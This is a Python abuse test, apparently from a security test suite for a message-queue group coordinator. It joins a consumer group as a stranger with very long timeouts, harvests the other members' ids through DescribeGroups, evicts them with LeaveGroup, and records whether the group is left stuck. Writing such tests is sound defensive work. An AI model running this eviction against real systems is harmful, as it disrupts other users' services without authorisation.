"""A stranger joins W's group, puts W out, and as the leader of what is left never gives W its work back.

Must hold: a member id from DescribeGroups puts nobody out, and W works on with what it has, whoever leads.
What an operator can do about it, which is to remove the stranger's member, must help at once; that is done at
the end.
"""

import asyncio
from typing import Any

from abuse.caller import connection, groups_stub, join
from abuse.innocent import TOPIC
from abuse.lab import GROUP, Target, begins, stage
from muster_protos.muster.v1 import common_pb2, coordinator_pb2

LONGEST_MS = 1_800_000
HELD_S = 8.0


async def attack(target: Target) -> str:
    begins()
    async with connection(target.owner) as channel:
        stub = groups_stub(channel)
        asked = coordinator_pb2.DescribeGroupsRequest(group_ids=[GROUP])
        described = (await stub.DescribeGroups(asked, timeout=10)).groups[0]
        topics = common_pb2.Subscription(version=1, topics=[TOPIC], generation=-1).SerializeToString()
        request = join(
            GROUP,
            session_timeout_ms=LONGEST_MS,
            rebalance_timeout_ms=LONGEST_MS,
            protocols=[
                coordinator_pb2.GroupProtocol(name=described.protocol_name or "range", metadata=topics)
            ],
        )
        request.member_id = (await stub.JoinGroup(request, timeout=20)).member_id
        await stub.JoinGroup(request, timeout=60)
        described = (await stub.DescribeGroups(asked, timeout=10)).groups[0]
        others = [member.member_id for member in described.members if member.member_id != request.member_id]
        await leave(stub, *others)
        await asyncio.sleep(HELD_S)
        stuck = (await stub.DescribeGroups(asked, timeout=10)).groups[0]
        await leave(stub, request.member_id)
    state = coordinator_pb2.GroupState.Name(stuck.state)
    return f"{len(others)} put out; {HELD_S:g} s later the group was {state}"


async def leave(stub: Any, *member_ids: str) -> None:
    """Removes members, as anybody may who knows their ids."""
    if member_ids:
        members = [coordinator_pb2.LeaveGroupRequest.Member(member_id=member_id) for member_id in member_ids]
        await stub.LeaveGroup(coordinator_pb2.LeaveGroupRequest(group_id=GROUP, members=members), timeout=10)


if __name__ == "__main__":
    stage(attack, protocol="classic")
